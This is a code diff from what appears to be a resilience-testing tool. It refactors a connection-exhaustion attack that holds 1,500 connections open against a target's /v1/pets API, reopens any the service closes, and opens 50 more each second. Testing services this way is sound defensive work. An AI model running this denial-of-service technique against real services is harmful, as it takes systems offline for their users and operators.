@@ -1,21 +1,12 @@
 import type { Attack } from './attack.ts';
-import { type Sockets, withSockets, write } from './open-sockets.ts';
+import { keepOpen, withSockets, write } from './open-sockets.ts';
 import { bearer, request } from './requests.ts';
-
-/** Opens connections that send these bytes, and opens each one again when the service closes it. */
-const keepOpen = async ({ open, isOver, wait }: Sockets, count: number, bytes: string): Promise<void> => {
-  const again = async (): Promise<void> => {
-    const socket = await open();
-    socket.once('close', () => void wait(100).then(() => (isOver() ? undefined : again())));
-    await write(socket, bytes);
-  };
-  for (let opened = 0; opened < count && !isOver(); opened += 50) await Promise.all(Array.from({ length: 50 }, again));
-};
 
 /** Fills the table of connections with 1,500 that have sent one valid request each, and opens 50 others a second. */
 export const holdConnections: Attack = (target) =>
   withSockets(target, async (sockets) => {
-    await keepOpen(sockets, 1_500, request('GET /v1/pets', [bearer(target.apiKey)]));
+    const list = request('GET /v1/pets', [bearer(target.apiKey)]);
+    await keepOpen(sockets, 1_500, (socket) => socket.write(list));
     while (!sockets.isOver()) {
       await sockets.open();
       await sockets.wait(20);
